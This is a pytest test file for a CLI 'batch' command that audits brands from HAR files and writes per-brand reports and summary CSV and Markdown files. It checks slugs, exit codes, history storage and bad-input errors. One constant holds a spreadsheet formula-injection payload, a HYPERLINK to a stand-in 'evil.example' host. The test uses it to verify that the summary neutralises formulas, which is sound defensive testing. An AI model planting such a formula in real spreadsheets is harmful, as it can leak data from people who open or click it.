"""`findable batch` end to end, offline: brands audited from HARs built like the demo's, a row
with a bad target that fails on its own, the summaries, exit codes and bad CSVs (exit 2)."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from audit.batch import slugify
from audit.demo import build
from audit.result import shown_score

FINDABLE = [sys.executable, "-m", "audit"]
EVIL = '=HYPERLINK("http://evil.example/?leak","click")'


def run(*args: str | Path, db: Path) -> subprocess.CompletedProcess[str]:
    env = dict(os.environ, COLUMNS="120", FINDABLE_DB=str(db))
    env.pop("FINDABLE_DEBUG", None)
    return subprocess.run(
        [*FINDABLE, *map(str, args)],
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
        check=False,
    )


def assert_bad_input(proc: subprocess.CompletedProcess[str], *fragments: str) -> None:
    assert proc.returncode == 2, proc.stderr + proc.stdout
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1, proc.stderr
    assert "Traceback" not in proc.stderr
    for fragment in fragments:
        assert fragment in lines[0], lines[0]


def write_hars(folder: Path) -> None:
    hars = build.build_hars()
    (folder / "hars").mkdir()
    (folder / "hars" / "bluesky.har").write_text(
        build.har_text(hars[f"bluesky-{build.BSKY_HANDLE}"]), encoding="utf-8"
    )
    (folder / "hars" / "instagram.har").write_text(
        build.har_text(hars[f"instagram-{build.IG_HANDLE}"]), encoding="utf-8"
    )


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8-sig", newline="") as handle:  # a BOM, as Excel saves
        csv.writer(handle).writerows(rows)
    return path


@pytest.fixture(scope="module")
def batch(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path]:
    """Three rows: Bluesky HAR, Instagram HAR (a name that folds to the same slug), bad target."""
    folder = tmp_path_factory.mktemp("batch")
    write_hars(folder)
    brands = write_csv(
        folder / "brands.csv",
        [
            ["brand", "har", "profiles", "keywords", "location", "local"],
            ["Šiška Pekarna", "hars/bluesky.har", "", "kruh;pekarna", "Ljubljana", "yes"],
            ["šiška  pekarna!", "hars/instagram.har", "", "sourdough, bakery", "", "no"],
            [EVIL, "", "myspace:@nobody", "", "", ""],
        ],
    )
    out, db = folder / "out", folder / "history.sqlite3"
    proc = run("batch", brands, "--out", out, db=db)
    assert proc.returncode == 0, proc.stderr + proc.stdout
    assert "Šiška Pekarna" in proc.stdout and "not audited" in proc.stdout
    assert str(out / "summary.md") in proc.stdout
    return folder, out, db


def read_summary(out: Path) -> list[dict[str, str]]:
    raw = (out / "summary.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    return list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))


def test_slugs_fold_to_ascii() -> None:
    assert slugify("Šiška Pekarna") == "siska-pekarna"
    assert slugify("Café Łódź & Straße") == "cafe-lodz-strasse"
    assert slugify("  ***  ") == "brand"
    assert slugify("Кафе") == "brand"


def test_each_brand_gets_its_folder_and_reports(batch: tuple[Path, Path, Path]) -> None:
    _, out, _ = batch
    assert sorted(p.name for p in out.iterdir()) == [
        "siska-pekarna",
        "siska-pekarna-2",  # the second name folds to the same slug
        "summary.csv",
        "summary.md",
    ]  # the failed row leaves no empty folder
    for slug, platform in (("siska-pekarna", "bluesky"), ("siska-pekarna-2", "instagram")):
        for name in ("report.json", "report.md", "report.html", "report.csv"):
            assert (out / slug / name).is_file(), (slug, name)
        report = json.loads((out / slug / "report.json").read_text(encoding="utf-8"))
        assert [p["platform"] for p in report["profiles"]] == [platform]
    first = json.loads((out / "siska-pekarna" / "report.json").read_text(encoding="utf-8"))
    assert first["brand"] == "Šiška Pekarna"  # the CSV's name, not the HAR's


def test_summary_csv_matches_the_reports(batch: tuple[Path, Path, Path]) -> None:
    _, out, _ = batch
    rows = read_summary(out)
    assert [r["slug"] for r in rows] == [
        "siska-pekarna",
        "siska-pekarna-2",
        "hyperlink-http-evil-example-leak-click",
    ]
    assert [r["status"] for r in rows] == ["ok", "ok", "failed"]
    for row in rows[:2]:
        report = json.loads((out / row["slug"] / "report.json").read_text(encoding="utf-8"))
        # the score every output shows (one rounding rule), not a second precision
        assert int(row["score"]) == shown_score(report["score"])
        assert row["band"] == report["band"]
        assert row["error"] == ""
    assert rows[0]["profiles_audited"] == f"bluesky:@{build.BSKY_HANDLE}"
    assert rows[1]["profiles_audited"] == f"instagram:@{build.IG_HANDLE}"
    assert rows[0]["top_fix"].endswith(f"(Bluesky @{build.BSKY_HANDLE})")
    failed = rows[2]
    assert failed["score"] == "" and failed["band"] == ""
    assert "unknown platform 'myspace'" in failed["error"]


def test_summary_csv_defuses_formulas(batch: tuple[Path, Path, Path]) -> None:
    _, out, _ = batch
    failed = read_summary(out)[2]
    assert failed["brand"] == "'" + EVIL  # shown as text by a spreadsheet, never run
    for row in read_summary(out):
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@")), cell


def test_summary_md_links_each_report(batch: tuple[Path, Path, Path]) -> None:
    _, out, _ = batch
    md = (out / "summary.md").read_text(encoding="utf-8")
    assert "2 of 3 brands audited." in md
    rows = read_summary(out)
    for row in rows[:2]:
        link = f"[report.html]({row['slug']}/report.html)"
        assert link in md
        assert (out / row["slug"] / "report.html").is_file()
        assert f"| {row['score']} |" in md
    assert "Šiška Pekarna" in md
    evil_line = next(line for line in md.splitlines() if "HYPERLINK" in line)
    assert "failed" in evil_line and "report.html" not in evil_line
    assert evil_line.count("|") == 6  # the brand's text cannot add table cells


def test_every_audit_is_in_the_history(batch: tuple[Path, Path, Path]) -> None:
    _, _, db = batch
    proc = run("history", "--json", db=db)
    assert proc.returncode == 0, proc.stderr
    stored = json.loads(proc.stdout)
    assert sorted(s["brand"] for s in stored) == ["Šiška Pekarna", "šiška  pekarna!"]
    scores = {s["brand"]: s["score"] for s in stored}
    rows = {r["brand"]: r for r in read_summary(batch[1])}
    assert shown_score(scores["Šiška Pekarna"]) == int(rows["Šiška Pekarna"]["score"])


def test_fail_under_exits_1_and_names_the_brands(batch: tuple[Path, Path, Path]) -> None:
    folder, _, _ = batch
    out = folder / "strict"
    proc = run(
        "batch", folder / "brands.csv", "--out", out, "--fail-under", "100", "--no-history",
        db=folder / "unused.sqlite3",
    )  # fmt: skip
    assert proc.returncode == 1, proc.stderr + proc.stdout
    assert "below --fail-under 100" in proc.stderr and "Šiška Pekarna" in proc.stderr
    assert (out / "summary.csv").is_file()  # the summary is written whatever the exit code
    assert not (folder / "unused.sqlite3").exists()  # --no-history stores nothing


def test_format_choice_and_link_to_what_was_written(tmp_path: Path) -> None:
    write_hars(tmp_path)
    brands = write_csv(tmp_path / "b.csv", [["brand", "har"], ["Lipa", "hars/bluesky.har"]])
    out = tmp_path / "out"
    proc = run("batch", brands, "--out", out, "--format", "json", "-q", db=tmp_path / "h.db")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == ""
    assert sorted(p.name for p in (out / "lipa").iterdir()) == ["report.json", "snapshot"]
    assert "[report.json](lipa/report.json)" in (out / "summary.md").read_text(encoding="utf-8")


def test_every_row_failed_exits_3(tmp_path: Path) -> None:
    (tmp_path / "junk.har").write_text("{}", encoding="utf-8")
    brands = write_csv(
        tmp_path / "b.csv",
        [["brand", "profiles", "har"], ["A", "myspace:@a", ""], ["B", "", "junk.har"]],
    )
    out = tmp_path / "out"
    proc = run("batch", brands, "--out", out, db=tmp_path / "h.db")
    assert proc.returncode == 3, proc.stderr + proc.stdout
    assert "no brand could be audited" in proc.stderr
    rows = read_summary(out)
    assert [r["status"] for r in rows] == ["failed", "failed"]
    assert "myspace" in rows[0]["error"] and "HAR" in rows[1]["error"]


@pytest.mark.parametrize(
    ("rows", "fragments"),
    [
        ([["brand", "har", "budget"], ["A", "", ""]], ["line 1", "'budget'", "columns are"]),
        ([["name", "profiles"], ["A", "instagram:@a"]], ["line 1", "'name'"]),
        ([["profiles"], ["instagram:@a"]], ["line 1", "no 'brand' column"]),
        (
            [["brand", "har"], ["A", "hars/bluesky.har"], ["B", "hars/missing.har"]],
            ["line 3", "column 'har'", "missing.har", "relative to the CSV"],
        ),
        (
            [["brand", "profiles"], ["A", "instagram:@a"], ["", "instagram:@b"]],
            ["line 3", "column 'brand'", "empty"],
        ),
        (
            [["brand", "profiles", "local"], ["A", "instagram:@a", "maybe"]],
            ["line 2", "column 'local'", "yes, no"],
        ),
        (
            [["brand", "har", "profiles"], ["A", "hars/bluesky.har", "instagram:@a"]],
            ["line 2", "column 'profiles'", "leave profiles empty"],
        ),
        ([["brand", "location"], ["A", "Ljubljana"]], ["line 2", "nothing to audit"]),
        ([["brand", "har"]], ["no brands listed"]),
    ],
)
def test_bad_csv_exits_2_naming_line_and_column(
    tmp_path: Path, rows: list[list[str]], fragments: list[str]
) -> None:
    write_hars(tmp_path)
    brands = write_csv(tmp_path / "b.csv", rows)
    out = tmp_path / "out"
    assert_bad_input(run("batch", brands, "--out", out, db=tmp_path / "h.db"), *fragments)
    assert not (out / "summary.csv").exists()  # refused before any audit


def test_missing_csv_and_bad_format_exit_2(tmp_path: Path) -> None:
    db = tmp_path / "h.db"
    out = tmp_path / "out"
    missing = run("batch", tmp_path / "nope.csv", "--out", out, db=db)
    assert_bad_input(missing, "nope.csv", "no such CSV")
    brands = write_csv(tmp_path / "b.csv", [["brand", "profiles"], ["A", "instagram:@a"]])
    assert_bad_input(run("batch", brands, "--out", out, "--format", "docx", db=db), "docx")
    assert not out.exists()
